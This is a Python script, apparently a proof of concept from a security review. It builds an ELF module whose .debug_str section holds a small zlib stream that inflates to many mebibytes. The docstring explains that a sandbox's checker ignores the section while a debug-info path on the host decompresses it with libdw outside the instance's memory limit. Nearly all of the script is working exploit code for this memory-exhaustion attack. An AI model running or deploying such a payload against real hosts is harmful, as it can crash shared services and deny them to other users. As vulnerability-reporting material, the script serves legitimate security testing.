#!/usr/bin/env python3
"""dwzlib_patch.py IN.so OUT.so MIB (review4): adds a SHF_COMPRESSED
.debug_str section whose zlib stream (about MIB KiB in the file) inflates
to MIB MiB. The ELF checker ignores non-alloc sections; at the first trap
(or sfi_check_signature) debuginfo.c opens the module's DWARF with libdw,
whose dwarf_begin decompresses every compressed debug section into host
memory: MIB MiB of host RSS per module, outside the instance's mem_limit
(a 1 GiB module file: ~1 TiB asked)."""
import os, struct, subprocess, sys, tempfile, zlib

src, dst, mib = sys.argv[1], sys.argv[2], int(sys.argv[3])
L = "/usr/lib/llvm-22/bin/"
size = mib << 20
c = zlib.compressobj(9)
chunk = b"\0" * (1 << 20)
blob = struct.pack("<IIQQ", 1, 0, size, 1)  # Elf64_Chdr: ZLIB, size, align
for _ in range(mib):
    blob += c.compress(chunk)
blob += c.flush()
d = tempfile.mkdtemp()
f = os.path.join(d, "str")
open(f, "wb").write(blob)
secs = subprocess.run([L + "llvm-readelf", "-S", "-W", src], capture_output=True,
                      text=True).stdout
flag = "--update-section" if ".debug_str " in secs else "--add-section"
subprocess.run([L + "llvm-objcopy", flag, ".debug_str=" + f, src, dst],
               check=True)
# set SHF_COMPRESSED (0x800) on .debug_str
b = bytearray(open(dst, "rb").read())
shoff, = struct.unpack_from("<Q", b, 0x28)
shentsize, shnum, shstrndx = struct.unpack_from("<HHH", b, 0x3a)
stroff, = struct.unpack_from("<Q", b, shoff + shstrndx * shentsize + 0x18)
for i in range(shnum):
    o = shoff + i * shentsize
    name, = struct.unpack_from("<I", b, o)
    n = b[stroff + name:b.index(b"\0", stroff + name)]
    if n == b".debug_str":
        fl, = struct.unpack_from("<Q", b, o + 8)
        struct.pack_into("<Q", b, o + 8, fl | 0x800)
        struct.pack_into("<Q", b, o + 0x30, 1)  # sh_addralign
open(dst, "wb").write(bytes(b))
print("compressed .debug_str: %d bytes in the file, %d when inflated" %
      (len(blob), size))
